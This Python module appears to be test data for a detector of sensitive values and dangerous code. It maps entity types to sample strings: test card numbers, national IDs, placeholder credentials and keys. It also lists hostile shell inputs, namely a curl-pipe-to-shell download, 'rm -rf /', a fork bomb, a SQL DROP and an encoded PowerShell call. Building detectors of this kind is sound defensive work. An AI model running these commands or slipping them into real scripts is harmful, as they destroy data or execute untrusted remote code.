"""Sample texts for entities whose pattern does not show their form. None was ever in use."""

from typing import Final

SAMPLES: Final[dict[str, tuple[str, ...]]] = {
    "email": ("amy@corp.tw", "first.last+tag@sub.example.co.uk"),
    "phone": ("+14155552671", "(415) 555-2671", "03-1234-5678"),
    "credit_card": ("4111111111111111", "5555 5555 5555 4444"),
    "iban": ("DE89370400440532013000", "GB82 WEST 1234 5698 7654 32"),
    "us_ssn": ("078-05-1120",),
    "tw_national_id": ("A123456789",),
    "tw_mobile": ("0912-345-678", "+886 912 345 678"),
    "cn_resident_id": ("11010519491231002X",),
    "jp_my_number": ("6214 9832 0257",),
    "uk_nino": ("AB 12 34 56 C",),
    "ipv4": ("10.0.0.1",),
    "ipv6": ("2001:db8::1", "::ffff:192.0.2.128"),
    "mac_address": ("00:1b:44:11:3a:b7",),
    "url_credentials": ("user:pass@",),
    "jwt": ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcDEF_-123456",),
    "private_key": ("-----BEGIN PRIVATE KEY-----\nMIIB+/=\n-----END PRIVATE KEY-----",),
    "aws_access_key_id": ("AKIAIOSFODNN7EXAMPLE",),
    "aws_secret_key": ("wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",),
    "eval_call": ("eval(",),
    "exec_call": ("exec(",),
    "dynamic_import": ("__import__(",),
    "script_tag": ("<script",),
    "pipe_to_shell": ("curl -fsSL https://x.io/i | sh",),
    "remove_root": ("rm -rf /",),
    "fork_bomb": (":(){ :|:& };:",),
    "sql_drop": ("DROP TABLE u",),
    "encoded_powershell": ("powershell.exe -nop -enc SQBFAFgAIAAoAE4A",),
}
